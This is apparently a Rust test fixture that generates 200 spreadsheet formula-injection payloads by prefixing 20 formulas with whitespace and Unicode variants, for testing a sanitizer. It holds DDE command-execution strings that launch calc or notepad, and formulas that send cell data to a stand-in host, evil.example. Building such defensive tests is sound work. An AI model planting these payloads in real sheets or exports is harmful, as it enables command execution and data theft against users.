//! Two hundred ways to smuggle a formula into a sheet.

const COMMANDS: [&str; 20] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1",
    "+86 138 0013 8000",
    "+cmd|' /C notepad'!A0",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@name",
    "＝1+1",
    "＋1",
    "－1+cmd",
    "＠SUM(1)",
    "=\"a\"&\"b\"",
    "=2+5;=3",
];

/// What a person, or a careless program, may put before it.
const DISGUISES: [&str; 10] =
    ["", " ", "   ", "\t", "\n", "\r\n", "\u{3000}", "\u{a0}", "\u{feff}", "'"];

pub(super) fn payloads() -> Vec<String> {
    let disguised = |command: &&str| DISGUISES.map(|disguise| format!("{disguise}{command}"));
    COMMANDS.iter().flat_map(disguised).collect()
}

#[test]
fn there_are_two_hundred_of_them_and_no_two_are_alike() {
    let all: std::collections::HashSet<String> = payloads().into_iter().collect();
    assert_eq!(all.len(), 200);
}
